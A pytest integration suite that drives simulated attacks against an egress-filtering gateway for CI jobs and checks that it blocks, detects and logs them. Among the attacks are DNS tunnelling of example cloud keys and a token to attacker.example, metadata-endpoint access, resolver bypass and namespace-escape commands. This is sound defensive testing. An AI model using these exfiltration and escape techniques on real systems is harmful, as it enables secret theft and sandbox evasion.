"""The attack cases of egress-design.md §7 on the real kernel, nftables and sockets.

Each test builds a gateway for a fresh job namespace against the module's fake internet,
runs the attack from inside the job namespace, and checks what the job saw, what reached the
fake servers/upstream, and what the audit log says. Case numbers refer to §7.
"""

from __future__ import annotations

import asyncio
import base64
import socket
import subprocess
import time
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest

from github_runner.egress.gateway import Gateway
from tests.integration.egress.conftest import (
    World,
    dns_query,
    in_job,
    make_gateway,
    ping,
    records,
    settle,
    tcp_connect,
    udp_send,
)

ALLOW = ["allowed.example:80", "*.allowed.example:80"]


def run_with(world: World, job: Path, tmp: Path, mode: str, body: Callable[[Gateway], Awaitable[None]],
             allow: list[str] | None = None, **kw: Any) -> Gateway:
    async def main() -> Gateway:
        gw = make_gateway(world, job, tmp, mode, ALLOW if allow is None else allow, **kw)
        await gw.start()
        try:
            await body(gw)
            await settle()
        finally:
            await gw.stop()
        return gw

    return asyncio.run(main())


BOTH = pytest.mark.parametrize("mode", ["audit", "block"])


@BOTH
def test_01_02_allowed_name_v4_v6(world: World, job: Path, tmp_path: Path, mode: str) -> None:
    async def body(gw: Gateway) -> None:
        a = await in_job(job, dns_query, gw.addr.gw4, "allowed.example")
        assert a.answers == [world.ip4(10)]
        assert await in_job(job, tcp_connect, world.ip4(10), 80) == f"ok:hello from {world.ip4(10)}:80"
        aaaa = await in_job(job, dns_query, gw.addr.gw6, "allowed.example", "AAAA")
        assert aaaa.answers == [world.ip6(0x10)]
        assert (await in_job(job, tcp_connect, world.ip6(0x10), 80)).startswith("ok:")
        if mode == "block":
            out4 = gw.nft.run("list set inet gr allow4")
            out6 = gw.nft.run("list set inet gr allow6")
            assert f"{world.ip4(10)} . tcp . 80 timeout 1m30s" in out4  # max(60, floor 60) + grace 30
            assert f"{world.ip6(0x10)} . tcp . 80" in out6

    gw = run_with(world, job, tmp_path, mode, body)
    dns = records(gw, "dns")
    assert {r["action"] for r in dns} == {"allowed" if mode == "block" else "logged"}
    conns = records(gw, "connection")
    assert len(conns) == 2 and all(r["names"] == ["allowed.example"] for r in conns)
    assert all(r["step"]["name"] == "Run tests" for r in dns + conns)
    assert {r["family"] for r in conns} == {"ipv4", "ipv6"}


def test_03_allowed_name_other_port(world: World, job: Path, tmp_path: Path) -> None:
    async def body(gw: Gateway) -> None:
        await in_job(job, dns_query, gw.addr.gw4, "allowed.example")
        assert await in_job(job, tcp_connect, world.ip4(10), 8080) == "refused"

    gw = run_with(world, job, tmp_path, "block", body)
    blocked = records(gw, "connection", "blocked")
    assert blocked and blocked[0]["names"] == ["allowed.example"] and blocked[0]["dport"] == 8080


@BOTH
def test_04_name_not_on_allowlist(world: World, job: Path, tmp_path: Path, mode: str) -> None:
    since = time.time()

    async def body(gw: Gateway) -> None:
        r = await in_job(job, dns_query, gw.addr.gw4, "blocked.example")
        if mode == "block":
            assert r.rcode == "NXDOMAIN"
            assert r.ede == "egress policy: blocked.example is not in the allowlist"
        else:
            assert r.answers == [world.ip4(20)]
            assert (await in_job(job, tcp_connect, world.ip4(20), 80)).startswith("ok:")

    gw = run_with(world, job, tmp_path, mode, body)
    upstream = [q for q in world.upstream_queries(since) if q["qname"] == "blocked.example"]
    assert len(upstream) == (0 if mode == "block" else 1)
    assert records(gw, "dns", "blocked" if mode == "block" else "logged")


@BOTH
def test_05_06_hard_coded_addresses(world: World, job: Path, tmp_path: Path, mode: str) -> None:
    async def body(gw: Gateway) -> None:
        r4 = await in_job(job, tcp_connect, world.ip4(20), 80)
        r6 = await in_job(job, tcp_connect, world.ip6(0x20), 80)
        if mode == "block":
            assert (r4, r6) == ("refused", "refused")
        else:
            assert r4.startswith("ok:") and r6.startswith("ok:")

    gw = run_with(world, job, tmp_path, mode, body)
    conns = records(gw, "connection")
    assert {r["dst"] for r in conns} == {world.ip4(20), world.ip6(0x20)}
    assert all(r["direct_ip"] is True for r in conns)
    assert {r["action"] for r in conns} == {"blocked" if mode == "block" else "logged"}


def test_07_other_ip_of_allowed_name_only_after_answer(world: World, job: Path, tmp_path: Path) -> None:
    async def body(gw: Gateway) -> None:
        assert await in_job(job, tcp_connect, world.ip4(12), 80) == "refused"
        r = await in_job(job, dns_query, gw.addr.gw4, "multi.allowed.example")
        assert world.ip4(12) in r.answers
        assert (await in_job(job, tcp_connect, world.ip4(12), 80)).startswith("ok:")
        # the upstream slipped in an A record for an unrelated owner: never admitted
        assert await in_job(job, tcp_connect, world.ip4(20), 80) == "refused"

    run_with(world, job, tmp_path, "block", body)


def test_08_cname_chain(world: World, job: Path, tmp_path: Path) -> None:
    async def body(gw: Gateway) -> None:
        r = await in_job(job, dns_query, gw.addr.gw4, "www.allowed.example")
        assert r.answers == [world.ip4(11)] and "CNAME" in r.types
        assert (await in_job(job, tcp_connect, world.ip4(11), 80)).startswith("ok:")
        direct = await in_job(job, dns_query, gw.addr.gw4, "edge.cdn.example")
        assert direct.rcode == "NXDOMAIN"

    gw = run_with(world, job, tmp_path, "block", body)
    allowed = records(gw, "dns", "allowed")[0]
    assert allowed["cnames"] == ["edge.cdn.example"] and allowed["ttl"] == 5


def _tunnel_name(secret: str, parent: str) -> str:
    payload = base64.b32encode(secret.encode()).decode().rstrip("=").lower()
    return f"{payload[:60]}.{payload[60:] or 'x'}.{parent}"


@BOTH
def test_10_dns_tunnelling_to_unlisted_domain(world: World, job: Path, tmp_path: Path, mode: str) -> None:
    since = time.time()
    name = _tunnel_name("AKIAIOSFODNN7EXAMPLE/wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "x.attacker.example")

    async def body(gw: Gateway) -> None:
        r = await in_job(job, dns_query, gw.addr.gw4, name, "TXT")
        assert r.rcode == ("NXDOMAIN" if mode == "block" else "NOERROR")

    gw = run_with(world, job, tmp_path, mode, body)
    reached = [q for q in world.upstream_queries(since) if q["qname"].endswith("attacker.example")]
    assert len(reached) == (0 if mode == "block" else 1)
    det = records(gw, "detection")
    assert det and det[0]["kind"] == "dns_exfiltration" and len(det[0]["reasons"]) >= 3


@BOTH
def test_11_tunnelling_under_allowed_wildcard(world: World, job: Path, tmp_path: Path, mode: str) -> None:
    since = time.time()
    name = _tunnel_name("ghp_16C7e42F292c6912E7710c838347Ae178B4a", "allowed.example")

    async def body(gw: Gateway) -> None:
        r = await in_job(job, dns_query, gw.addr.gw4, name)
        if mode == "block":
            assert r.rcode == "REFUSED" and r.ede is not None and "tunnelling" in r.ede
        else:
            assert r.rcode == "NOERROR"

    gw = run_with(world, job, tmp_path, mode, body)
    reached = [q for q in world.upstream_queries(since) if q["qname"] == name]
    assert len(reached) == (0 if mode == "block" else 1)
    assert records(gw, "detection")[0]["kind"] == "dns_exfiltration"


def test_12_many_short_names_alert_only(world: World, job: Path, tmp_path: Path) -> None:
    async def body(gw: Gateway) -> None:
        for i in range(22):
            r = await in_job(job, dns_query, gw.addr.gw4, f"c{i}-q{i * 7}.allowed.example")
            assert r.rcode == "NOERROR"
        r = await in_job(job, dns_query, gw.addr.gw4, "allowed.example")
        assert r.answers == [world.ip4(10)]

    gw = run_with(world, job, tmp_path, "block", body)
    det = records(gw, "detection")
    assert len(det) == 1 and det[0]["severity"] == "medium" and "distinct names" in det[0]["reasons"][0]


@BOTH
def test_13_hard_coded_resolver_is_redirected(world: World, job: Path, tmp_path: Path, mode: str) -> None:
    since = time.time()

    async def body(gw: Gateway) -> None:
        rogue4, rogue6 = world.ip4(53), f"{world.net6}::53"
        for server, tcp in ((rogue4, False), (rogue4, True), (rogue6, False), ("203.0.113.53", False)):
            r = await in_job(job, dns_query, server, "blocked.example", "A", tcp)
            assert r.rcode == ("NXDOMAIN" if mode == "block" else "NOERROR"), (server, tcp)

    gw = run_with(world, job, tmp_path, mode, body)
    assert [e for e in world.server_events(since) if e.get("server") == "rogue"] == []
    redirected = records(gw, "dns", "redirected")
    assert {(r["resolver"], r["proto"]) for r in redirected} >= {
        (world.ip4(53), "udp"), (world.ip4(53), "tcp"), (f"{world.net6}::53", "udp")}


@BOTH
def test_14_dot_and_doh_to_unlisted_ip(world: World, job: Path, tmp_path: Path, mode: str) -> None:
    async def body(gw: Gateway) -> None:
        dot = await in_job(job, tcp_connect, world.ip4(20), 853)
        doh = await in_job(job, tcp_connect, world.ip4(20), 443)
        expected = "refused" if mode == "block" else "ok"
        assert dot.split(":")[0] == expected and doh.split(":")[0] == expected

    gw = run_with(world, job, tmp_path, mode, body)
    assert any(r["kind"] == "dns_bypass" for r in records(gw, "detection"))
    assert all(r["direct_ip"] for r in records(gw, "connection"))


@BOTH
def test_15_udp_and_quic(world: World, job: Path, tmp_path: Path, mode: str) -> None:
    since = time.time()

    async def body(gw: Gateway) -> None:
        for port in (9999, 443):
            out = await in_job(job, udp_send, world.ip4(20), port)
            if mode == "block":
                assert out == "error:113"  # EHOSTUNREACH from the ICMP admin-prohibited
        await asyncio.sleep(0.2)

    gw = run_with(world, job, tmp_path, mode, body)
    delivered = [e for e in world.server_events(since) if e["kind"] == "udp"]
    if mode == "block":
        assert delivered == []
    else:
        assert {e["dport"] for e in delivered} == {9999, 443} and delivered[0]["bytes"] == 16
    conns = records(gw, "connection")
    assert {(r["proto"], r["dport"]) for r in conns} == {("udp", 9999), ("udp", 443)}


@BOTH
def test_16_icmp_echo(world: World, job: Path, tmp_path: Path, mode: str) -> None:
    async def body(gw: Gateway) -> None:
        assert await in_job(job, ping, world.ip4(20)) is (mode == "audit")

    gw = run_with(world, job, tmp_path, mode, body)
    assert [r["icmp_type"] for r in records(gw, "connection")] == [8]


@BOTH
def test_17_18_gateway_host_and_metadata_always_denied(world: World, job: Path, tmp_path: Path, mode: str) -> None:
    async def body(gw: Gateway) -> None:
        assert await in_job(job, tcp_connect, gw.addr.gw4, 8080) == "refused"  # the gateway itself
        assert await in_job(job, tcp_connect, gw.addr.gw4, 2375) == "refused"  # docker-API-like
        assert await in_job(job, tcp_connect, gw.addr.up_peer4, 80) == "refused"  # the runner host side
        assert await in_job(job, tcp_connect, "169.254.169.254", 80) == "refused"

    gw = run_with(world, job, tmp_path, mode, body)
    reasons = sorted(r["reason"] for r in records(gw, "connection", "blocked"))
    assert reasons == ["always-deny", "always-deny", "gateway port", "gateway port"]


@BOTH
def test_19_private_ranges(world: World, job: Path, tmp_path: Path, mode: str) -> None:
    async def body(gw: Gateway) -> None:
        direct = await in_job(job, tcp_connect, "10.66.0.5", 80)
        assert direct == ("refused" if mode == "block" else "ok:hello from 10.66.0.5:80")
        # a listed name that answers with a private address is allowed: listed = justified
        await in_job(job, dns_query, gw.addr.gw4, "intranet.allowed.example")
        assert (await in_job(job, tcp_connect, "10.66.0.5", 80)).startswith("ok:")

    gw = run_with(world, job, tmp_path, mode, body)
    conns = records(gw, "connection")
    assert conns[0]["private"] is True and conns[0]["direct_ip"] is True
    if mode == "block":
        assert conns[0]["reason"] == "private range"


def test_20_spoofed_source_is_dropped(world: World, job: Path, tmp_path: Path) -> None:
    since = time.time()

    async def body(gw: Gateway) -> None:
        subprocess.run(["ip", "-n", job.name, "addr", "add", "198.18.5.5/32", "dev", gw.job_if], check=True)

        def spoofed() -> str:
            s = socket.socket()
            s.settimeout(1.0)
            s.bind(("198.18.5.5", 0))
            try:
                s.connect((world.ip4(10), 80))
                return "connected"
            except OSError as exc:
                return type(exc).__name__
            finally:
                s.close()

        assert await in_job(job, spoofed) in ("TimeoutError", "timeout")

    run_with(world, job, tmp_path, "audit", body)
    assert [e for e in world.server_events(since) if e["kind"] == "tcp"] == []


def test_21_22_job_root_cannot_tamper_or_escape(world: World, job: Path, tmp_path: Path) -> None:
    async def body(gw: Gateway) -> None:
        script = (f"nft add table inet evil; echo nft=$?; ip link set {gw.job_if} down; echo link=$?; "
                  f"ip route del default; echo route=$?; nft list ruleset | wc -l")
        out = subprocess.run(["nsenter", f"--net={job}", "unshare", "--user", "--map-root-user", "sh", "-c", script],
                             capture_output=True, text=True)
        assert "nft=1" in out.stdout and "link=2" in out.stdout and "route=2" in out.stdout
        assert "Operation not permitted" in out.stderr
        # even real root inside the job namespace sees no rules there: they live in the gateway
        assert subprocess.run(["ip", "netns", "exec", job.name, "nft", "list", "ruleset"],
                              capture_output=True, text=True).stdout.strip() == ""
        assert "chain forward" in gw.nft.run("list ruleset")
        escape = subprocess.run(
            ["nsenter", f"--net={job}", "unshare", "--user", "--map-root-user", "--net", "python3", "-c",
             f"import socket; s=socket.socket(); s.settimeout(1)\ntry: s.connect(('{world.ip4(10)}', 80)); print('connected')\n"
             "except OSError as e: print('failed', e.errno)"], capture_output=True, text=True)
        assert escape.stdout.startswith("failed")
        assert (await in_job(job, tcp_connect, world.ip4(20), 80)) == "refused"

    run_with(world, job, tmp_path, "block", body)


def test_27_ttl_floor_expiry_and_long_flow(world: World, job: Path, tmp_path: Path) -> None:
    async def body(gw: Gateway) -> None:
        await in_job(job, dns_query, gw.addr.gw4, "short.allowed.example")  # TTL 1, floor 1 + grace 1
        conn: list[socket.socket] = []

        def open_flow() -> str:
            s = socket.create_connection((world.ip4(13), 7000), timeout=2)
            conn.append(s)
            s.sendall(b"one\n")
            return s.recv(10).decode()

        def keep_flow() -> str:
            conn[0].sendall(b"two\n")
            return conn[0].recv(10).decode()

        assert await in_job(job, open_flow) == "one\n"
        await asyncio.sleep(3.2)  # the element has expired; nobody re-resolved
        assert await in_job(job, tcp_connect, world.ip4(13), 80) == "refused"
        assert await asyncio.to_thread(keep_flow) == "two\n"  # conntrack keeps the old flow alive
        conn[0].close()

    run_with(world, job, tmp_path, "block", body, allow=["*.allowed.example:80", "*.allowed.example:7000"],
             ttl_floor=1, ttl_grace=1)


def test_28_resolve_then_connect_race(world: World, job: Path, tmp_path: Path) -> None:
    async def body(gw: Gateway) -> None:
        failures = 0
        for _ in range(100):
            gw.nft.run("flush set inet gr allow4")
            gw._admitted.clear()
            r = await in_job(job, dns_query, gw.addr.gw4, "allowed.example")
            if not (await in_job(job, tcp_connect, r.answers[0], 80)).startswith("ok:"):
                failures += 1
        assert failures == 0

    run_with(world, job, tmp_path, "block", body)


@BOTH
def test_29_https_svcb_records(world: World, job: Path, tmp_path: Path, mode: str) -> None:
    async def body(gw: Gateway) -> None:
        r = await in_job(job, dns_query, gw.addr.gw4, "svc.allowed.example", "HTTPS")
        assert r.rcode == "NOERROR"
        assert (r.types == []) is (mode == "block")

    gw = run_with(world, job, tmp_path, mode, body)
    if mode == "block":
        assert records(gw, "dns", "nodata")


def test_30_upstream_down_is_servfail_never_open(world: World, job: Path, tmp_path: Path) -> None:
    async def body(gw: Gateway) -> None:
        r = await in_job(job, dns_query, gw.addr.gw4, "allowed.example", timeout=5)
        assert r.rcode == "SERVFAIL"
        assert "elements" not in gw.nft.run("list set inet gr allow4")
        assert await in_job(job, tcp_connect, world.ip4(10), 80) == "refused"

    async def main() -> Gateway:
        gw = make_gateway(world, job, tmp_path, "block", ALLOW)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.bind(("127.0.0.1", 0))
            gw.upstream_addr = ("127.0.0.1", s.getsockname()[1])  # nobody answers there
        await gw.start()
        try:
            await body(gw)
        finally:
            await gw.stop()
        return gw

    gw = asyncio.run(main())
    assert records(gw, "dns", "error")[0]["rcode"] == "SERVFAIL"


def test_33_log_flood_is_rate_limited(world: World, job: Path, tmp_path: Path) -> None:
    async def body(gw: Gateway) -> None:
        def flood() -> int:
            refused = 0
            for _ in range(1500):
                s = socket.socket()
                s.setblocking(False)
                try:
                    s.connect_ex((world.ip4(20), 80))
                finally:
                    s.close()
                refused += 1
            return refused

        assert await in_job(job, flood) == 1500

    gw = run_with(world, job, tmp_path, "block", body, log_rate=100)
    end = records(gw, "lifecycle", "job_end")[0]
    assert end["log_suppressed"] > 0
    assert len(records(gw, "connection")) < 1500


@BOTH
def test_38_mining_pool(world: World, job: Path, tmp_path: Path, mode: str) -> None:
    async def body(gw: Gateway) -> None:
        r = await in_job(job, dns_query, gw.addr.gw4, "pool.miner.example")
        assert r.rcode == ("NXDOMAIN" if mode == "block" else "NOERROR")
        out = await in_job(job, tcp_connect, world.ip4(30), 3333)
        assert out.split(":")[0] == ("refused" if mode == "block" else "ok")

    gw = run_with(world, job, tmp_path, mode, body)
    kinds = [(r["kind"], r.get("qname"), r.get("dport")) for r in records(gw, "detection")]
    assert ("cryptomining", "pool.miner.example", None) in kinds
    assert ("cryptomining", None, 3333) in kinds


def test_39_secret_in_dns_name_is_masked(world: World, job: Path, tmp_path: Path) -> None:
    secret = "s3cr3t-Token-Value-42"
    name = _tunnel_name(secret, "x.attacker.example")

    async def body(gw: Gateway) -> None:
        await in_job(job, dns_query, gw.addr.gw4, name, "TXT")
        await in_job(job, dns_query, gw.addr.gw4, f"{secret.lower()}.attacker.example")

    gw = run_with(world, job, tmp_path, "audit", body, secrets_=(secret,))
    text = Path(gw.audit.path).read_text()
    payload = base64.b32encode(secret.encode()).decode().rstrip("=").lower()
    assert payload[:20] not in text and secret.lower() not in text
    assert "***[" in text and "attacker.example" in text


def test_09_port_forms_any_range_udp(world: World, job: Path, tmp_path: Path) -> None:
    since = time.time()

    async def body(gw: Gateway) -> None:
        await in_job(job, dns_query, gw.addr.gw4, "svc.allowed.example")
        assert (await in_job(job, tcp_connect, world.ip4(10), 5432)).startswith("ok:")  # :* any TCP port
        assert await in_job(job, udp_send, world.ip4(10), 9999) == "sent"  # :9999/udp
        await in_job(job, dns_query, gw.addr.gw4, "multi.allowed.example")
        assert (await in_job(job, tcp_connect, world.ip4(12), 8080)).startswith("ok:")  # in 8000-8090
        assert await in_job(job, tcp_connect, world.ip4(12), 80) == "refused"  # outside the range
        any4 = gw.nft.run("list set inet gr any4")
        assert f"{world.ip4(10)} . tcp timeout" in any4

    run_with(world, job, tmp_path, "block", body,
             allow=["svc.allowed.example:*", "svc.allowed.example:9999/udp", "multi.allowed.example:8000-8090"])
    assert [e["dport"] for e in world.server_events(since) if e["kind"] == "udp"] == [9999, 9999]
